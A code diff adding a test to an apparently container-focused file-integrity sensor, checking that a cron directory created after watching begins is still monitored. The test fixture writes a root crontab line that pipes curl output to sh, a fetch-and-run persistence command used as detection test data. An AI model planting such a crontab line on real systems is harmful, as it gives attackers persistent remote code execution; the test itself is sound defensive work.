@@ -164,3 +164,33 @@ def test_output_kinds_are_judged_against_the_pipes_the_shim_holds(tmp_path):
         ["own-file", "own-file", "mounted-file", "own-file"]
     # Without the shim's fds, a pipe may be the log: never called diverted.
     assert target_kind(10, "pipe:[77]", frozenset(), str(tmp_path)) == "log"
+
+
+def test_a_watched_directory_made_after_the_watch_is_adopted(tmp_path: Path):
+    """Real inotify on real files: /var/spool/cron does not exist when the container starts; the
+    payload runs `mkdir -p /var/spool/cron/crontabs` and writes root's crontab there. Before the fix
+    the directory's creation was ignored and the crontab never seen."""
+    import threading
+    import time
+
+    root = tmp_path / "merged"
+    (root / "var/spool").mkdir(parents=True)
+    sent: list[dict] = []
+    sensor = FimSensor()
+    sensor._emit = sent.append
+    sensor.open()
+    sensor.watch(Watch(str(root / "var/spool/cron"), root=str(root), recursive=True, changed_since=time.time() - 1))
+    runner = threading.Thread(target=sensor.run, daemon=True)
+    runner.start()
+    try:
+        (root / "var/spool/cron/crontabs").mkdir(parents=True)
+        (root / "var/spool/cron/crontabs/root").write_text("* * * * * curl x | sh\n")
+        deadline = time.monotonic() + 5
+        while time.monotonic() < deadline and not any(
+                e.get("file.path_in_container") == "/var/spool/cron/crontabs/root" for e in sent):
+            time.sleep(0.05)
+    finally:
+        sensor._stop.set()
+        runner.join(timeout=5)
+        sensor.close()
+    assert "/var/spool/cron/crontabs/root" in {e.get("file.path_in_container") for e in sent}
